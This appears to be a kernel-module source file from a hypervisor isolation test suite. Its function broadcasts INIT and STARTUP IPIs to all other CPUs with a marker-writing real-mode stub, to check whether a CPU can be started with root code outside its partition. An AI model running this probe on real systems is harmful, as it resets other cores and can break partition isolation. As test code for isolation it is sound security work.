// SPDX-License-Identifier: GPL-2.0
/*
 * The root starts a withheld CPU itself: INIT, then two STARTUP IPIs to
 * every other CPU ("all excluding self") through the local APIC, with a
 * real-mode program at START_PAGE that stores a marker and halts.  A CPU
 * that runs it runs the root's code outside any partition.  The marker
 * is checked 100 ms later.
 */
#include "attack.h"

#include <linux/delay.h>
#include <linux/io.h>
#include <linux/kernel.h>
#include <asm/apic.h>

#define START_PAGE   0x70000UL /* below 1 MiB, reserved by Linux, unused */
#define MARKER_AT    0x800     /* offset in START_PAGE */
#define MARKER_VALUE 0x42

/* mov byte [cs:MARKER_AT], MARKER_VALUE; cli; hlt; jmp $-1 (16-bit) */
static const u8 start_code[] = {
	0x2e, 0xc6, 0x06, MARKER_AT & 0xff, MARKER_AT >> 8, MARKER_VALUE, 0xfa,
	0xf4, 0xeb, 0xfd,
};

static void send_all_but_self(u32 mode_and_vector)
{
	apic_icr_write(APIC_DEST_ALLBUT | mode_and_vector, 0);
	udelay(200);
}

void attack_initsipi(void)
{
	u8 *page = memremap(START_PAGE, PAGE_SIZE, MEMREMAP_WB);
	u8 marker;

	if (!page) {
		pr_info("FAIL initsipi: cannot map the start page\n");
		return;
	}
	memset(page, 0, PAGE_SIZE);
	memcpy(page, start_code, sizeof(start_code));
	wbinvd();
	send_all_but_self(APIC_INT_LEVELTRIG | APIC_INT_ASSERT | APIC_DM_INIT);
	mdelay(10);
	send_all_but_self(APIC_DM_STARTUP | (START_PAGE >> 12));
	send_all_but_self(APIC_DM_STARTUP | (START_PAGE >> 12));
	mdelay(100);
	marker = READ_ONCE(page[MARKER_AT]);
	memunmap(page);
	pr_info("initsipi marker=0x%x %s\n", marker,
		marker == MARKER_VALUE ? "another-cpu-ran-root-code"
				       : "no-cpu-started");
}
